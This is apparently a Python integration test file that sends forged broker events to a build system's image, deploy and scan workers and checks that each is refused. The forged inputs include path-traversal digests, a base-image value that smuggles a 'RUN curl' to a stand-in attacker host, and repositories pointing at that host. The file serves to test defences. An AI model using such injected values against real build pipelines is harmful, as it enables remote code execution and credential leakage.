"""Forged events on the broker (finding 10 and the receipt half of finding 3, issue #13).

Anyone who can publish on the broker can forge any event. Each test here publishes forged events
to a real worker process (RabbitMQ, MariaDB, Docker Engine, the local registry) the way an
outsider with broker access would, and asserts the outcome from the outside: the job is refused
with the field named, dead-lettered with the reason, its build ends (image.failed or
build.finished with the reason), nothing is built or pushed, no request, credentials or not,
reaches the attacker's registry, and the worker goes on serving the legitimate job published
right after the forged ones.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import aio_pika
import pytest

from shared.artifacts import push_artifact
from shared.bus import Bus
from shared.bus import topology as t
from shared.bus.errors import ERROR_HEADER
from shared.events import BuildRequested, CompileCompleted, Envelope, ImagePushed
from shared.events.build import Options, StageFinished
from shared.events.compile import Artifact, ImageRequested, TargetPlatform
from shared.naming import image_repository
from shared.registry import NotFound, RegistryClient
from tests.integration.imager_support import (
    ROOT,
    dockerfile_operator_config,
    required_env,
    start_worker,
    stop_worker,
)

pytestmark = pytest.mark.integration

PACKAGE = "gate"
VERSION = f"forge{uuid.uuid4().hex[:6]}"
DIGEST = "sha256:" + "e" * 64


class AttackerRegistry:
    """An HTTP listener standing in for a registry the attacker runs: it records every request
    (and whether it carried an Authorization header) and asks for Basic credentials."""

    def __init__(self):
        self.requests: list[tuple[str, str, bool]] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append((self.command, self.path, "Authorization" in self.headers))
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="attacker"')
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_HEAD = do_POST = do_PUT = do_PATCH = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Watch:
    """Every event on kiln.events, read as raw JSON (forged bodies do not decode)."""

    def __init__(self):
        self.events: list[dict] = []

    async def __call__(self, message):
        self.events.append(json.loads(message.body))

    def of(self, type_suffix: str, build_id: str) -> list[dict]:
        return [e for e in self.events if e["type"].endswith(type_suffix) and e["buildid"] == build_id]

    async def first(self, type_suffixes: tuple[str, ...], build_id: str, timeout: float) -> dict:
        deadline = asyncio.get_running_loop().time() + timeout
        while True:
            for suffix in type_suffixes:
                if found := self.of(suffix, build_id):
                    return found[0]
            seen = [(e["type"], e["data"].get("error")) for e in self.events if e["buildid"] == build_id]
            assert asyncio.get_running_loop().time() < deadline, f"no {type_suffixes} for {build_id}: {seen}"
            await asyncio.sleep(0.2)


@pytest.fixture(scope="module")
def registry():
    client = RegistryClient(
        required_env("KILN_REGISTRY_URL"),
        required_env("KILN_REGISTRY_USERNAME"),
        required_env("KILN_REGISTRY_PASSWORD"),
    )
    yield client
    client.close()


@pytest.fixture(scope="module")
def attacker():
    listener = AttackerRegistry()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def setup(tmp_path_factory, registry):
    work = tmp_path_factory.mktemp("forged")
    base = required_env("KILN_BASE_IMAGE_AMD64")
    src = work / "src"
    src.mkdir()
    (src / "Dockerfile").write_text(f'FROM {base}\nCOPY app.py /srv/app.py\nCMD ["python3", "/srv/app.py"]\n')
    (src / "app.py").write_text("import time\nwhile True:\n    time.sleep(1)\n")
    store = f"file://{work / 'store'}"
    stored = push_artifact(src, store=store, package=PACKAGE, build="b1", platform="linux/amd64")
    config = dockerfile_operator_config(work / "operator", PACKAGE, registry.host, {"linux/amd64": base})
    legit = ImageRequested(
        target="svc",
        platform="linux/amd64",
        artifact=Artifact(platform="linux/amd64", reference=stored.reference, digest=stored.digest),
        base_image=base,
        dockerfile="Dockerfile",
        command=("python3", "/srv/app.py"),
        repository=image_repository(registry.host, "kiln", VERSION, "svc", PACKAGE, "linux/amd64"),
        tags=("latest", "b1"),
    )
    return {"work": work, "store": store, "config": config, "legit": legit}


@pytest.fixture(scope="module")
def imager(amqp_url, database_url, setup):
    work = setup["work"]
    env = {
        "KILN_AMQP_URL": amqp_url,
        "KILN_DATABASE_URL": database_url,
        "KILN_CONFIG_PATH": str(setup["config"]),
        "KILN_ARTIFACT_STORE": setup["store"],
        "KILN_IMAGER_WORK_DIR": str(work / "imager"),
        "KILN_PROVE_STAY_UP_S": "2",
    }
    process = start_worker("linux/amd64", env, work / "imager.log", "--no-manifests")
    yield process
    stop_worker(process)


def forged_body(job: ImageRequested, build_id: str, **data) -> bytes:
    """The legitimate job's envelope with `data` fields replaced, as a forger would write it."""
    body = json.loads(Envelope.new(job, source="compiler", build_id=build_id, package=PACKAGE).to_json())
    body["data"].update(data)
    return json.dumps(body).encode()


async def dead_letters(amqp_url: str, queue: str) -> dict[str, str]:
    """build id -> the x-kiln-error reason of every message in a dead-letter queue."""
    connection = await aio_pika.connect(amqp_url)
    reasons = {}
    async with connection:
        channel = await connection.channel()
        dlq = await channel.declare_queue(queue, passive=True)
        while (message := await dlq.get(no_ack=True, fail=False)) is not None:
            reasons[json.loads(message.body)["buildid"]] = str((message.headers or {}).get(ERROR_HEADER))
    return reasons


async def test_forged_image_jobs_are_refused_and_the_worker_serves_the_next_job(
    amqp_url, imager, setup, registry, attacker
):
    legit: ImageRequested = setup["legit"]
    base = legit.base_image
    artifact = legit.artifact.model_dump(mode="json")
    on_attacker = f"{attacker.host}/kiln/{VERSION}-svc-{PACKAGE}"
    forged = {  # build id -> (data replaced, what the refusal must name)
        "path-dotdot": ({"artifact": {**artifact, "digest": "../.."}}, "artifact.digest"),
        "path-etc": ({"artifact": {**artifact, "digest": "/etc", "reference": "/etc"}}, "artifact.reference"),
        "foreign-repo": ({"repository": on_attacker}, "repository"),
        "from-newline": ({"base_image": f"{base}\nRUN curl http://{attacker.host}/pwned"}, "base_image"),
        "foreign-base": ({"base_image": f"{attacker.host}/evil/base:latest"}, "base_image"),
        "unknown-target": (
            {
                "target": "ghost",
                "repository": image_repository(
                    registry.host, "kiln", VERSION, "ghost", PACKAGE, "linux/amd64"
                ),
            },
            "target 'ghost'",
        ),
        "foreign-artifact": (
            {"artifact": {**artifact, "reference": f"file:///etc/{PACKAGE}@{legit.artifact.digest}"}},
            "artifact.reference",
        ),
    }
    ids = {name: f"{name}-{uuid.uuid4().hex[:8]}" for name in forged}
    bus = await Bus(amqp_url, source="attacker").connect()
    watch = Watch()
    await bus.subscribe_transient("forged-watch", ["#"], watch)
    for name, (data, _) in forged.items():
        await bus.publish_raw(
            t.EVENTS_EXCHANGE, "image.requested.amd64", forged_body(legit, ids[name], **data)
        )
    legit_id = f"legit-{uuid.uuid4().hex[:8]}"
    await bus.emit(legit, build_id=legit_id, package=PACKAGE)

    pushed = await watch.first((".image.pushed.v1", ".image.failed.v1"), legit_id, timeout=240)
    assert pushed["type"].endswith(".image.pushed.v1"), pushed["data"]
    assert imager.poll() is None, "the worker must survive the forged jobs"
    repo = legit.repository.split("/", 1)[1]
    assert registry.manifest_digest(repo, "b1") == pushed["data"]["digest"]

    for name, (_, named) in forged.items():
        ended = await watch.first((".image.failed.v1", ".build.finished.v1"), ids[name], timeout=30)
        assert named in ended["data"]["error"], (name, ended["data"]["error"])
        assert ended["type"].endswith(".image.failed.v1") or ended["data"]["failed_stage"] == "image"
        assert not watch.of(".stage.started.v1", ids[name]), f"{name}: nothing may be built"
        assert not watch.of(".image.pushed.v1", ids[name]), f"{name}: nothing may be pushed"
    reasons = await dead_letters(amqp_url, t.imager_queue("amd64").dead_letter_queue)
    for name, (_, named) in forged.items():
        assert named in reasons.get(ids[name], ""), (name, reasons.get(ids[name]))
    assert legit_id not in reasons
    assert attacker.requests == [], "no request (and so no credential) may reach the attacker's registry"
    with pytest.raises(NotFound):
        registry.list_tags(f"kiln/{VERSION}-ghost-{PACKAGE}")
    await bus.stop(grace_s=5)


def start_service(module: str, setup: dict, env: dict[str, str]) -> subprocess.Popen:
    log = (setup["work"] / f"{module}.log").open("w")
    return subprocess.Popen(
        [sys.executable, "-m", f"services.{module}", "worker"],
        cwd=ROOT,
        env={**os.environ, "KILN_CONFIG_PATH": str(setup["config"]), **env},
        stdout=log,
        stderr=subprocess.STDOUT,
    )


@pytest.fixture
async def deployer(amqp_url, database_url, setup):
    """The real deployer worker process; its substrate is never reached for a refused build."""
    env = {
        "KILN_AMQP_URL": amqp_url,
        "KILN_DATABASE_URL": database_url,
        # Only the push fact: the test is about the image reference, not the scan or attestation.
        "KILN_DEPLOYER_OPTIONAL_FACTS": "scan,attest",
        "KILN_DEPLOYER_STATE_DIR": str(setup["work"] / "deployer"),
    }
    process = start_service("deployer", setup, env)
    yield process
    stop_worker(process)


async def test_forged_image_pushed_with_a_foreign_repository_is_not_deployed(
    amqp_url, deployer, setup, attacker
):
    bus = await Bus(amqp_url, source="attacker").connect()
    watch = Watch()
    await bus.subscribe_transient("forged-deploy-watch", ["#"], watch)
    build_id = f"deploy-{uuid.uuid4().hex[:8]}"
    foreign = f"{attacker.host}/kiln/{VERSION}-svc-{PACKAGE}"
    for event in (
        BuildRequested(package=PACKAGE, options=Options(platforms=("linux/amd64",))),
        CompileCompleted(ok=True, targets=(TargetPlatform(target="svc", platform="linux/amd64"),)),
        ImagePushed(
            target="svc", platform="linux/amd64", repository=foreign, tag="b1", digest=DIGEST, size_bytes=1
        ),
        StageFinished(stage="push", status="succeeded", target="svc", platform="linux/amd64"),
    ):
        await bus.emit(event, build_id=build_id, package=PACKAGE)
    finished = await watch.first((".build.finished.v1",), build_id, timeout=60)
    assert finished["data"]["status"] == "failed" and finished["data"]["failed_stage"] == "deploy"
    assert (
        foreign in finished["data"]["error"]
        and "derived from the operator config" in finished["data"]["error"]
    )
    assert not watch.of(".deploy.completed.v1", build_id), "nothing may be deployed"
    assert deployer.poll() is None
    assert attacker.requests == []
    await bus.stop(grace_s=5)


@pytest.fixture
async def scanner(amqp_url, database_url, setup):
    """The real scanner worker process, with the registry credentials of the dev environment."""
    env = {
        "KILN_AMQP_URL": amqp_url,
        "KILN_DATABASE_URL": database_url,
        "KILN_TRIVY_CACHE_DIR": str(setup["work"] / "trivy-cache"),
        "KILN_TRIVY_DB_DOWNLOAD": "false",
    }
    process = start_service("scanner", setup, env)
    yield process
    stop_worker(process)


async def test_forged_image_pushed_is_never_pulled_from_a_foreign_registry(amqp_url, scanner, attacker):
    bus = await Bus(amqp_url, source="attacker").connect()
    watch = Watch()
    await bus.subscribe_transient("forged-scan-watch", ["#"], watch)
    build_id = f"scan-{uuid.uuid4().hex[:8]}"
    foreign = f"{attacker.host}/kiln/{VERSION}-svc-{PACKAGE}"
    forged = ImagePushed(
        target="svc", platform="linux/amd64", repository=foreign, tag="b1", digest=DIGEST, size_bytes=1
    )
    await bus.emit(forged, build_id=build_id, package=PACKAGE)
    scan = await watch.first((".scan.completed.v1",), build_id, timeout=90)
    assert scan["data"]["verdict"] == "fail"
    assert "not under the operator's registry" in scan["data"]["note"] and foreign in scan["data"]["note"]
    assert scanner.poll() is None
    assert attacker.requests == [], "trivy must not have contacted the attacker's registry"
    await bus.stop(grace_s=5)
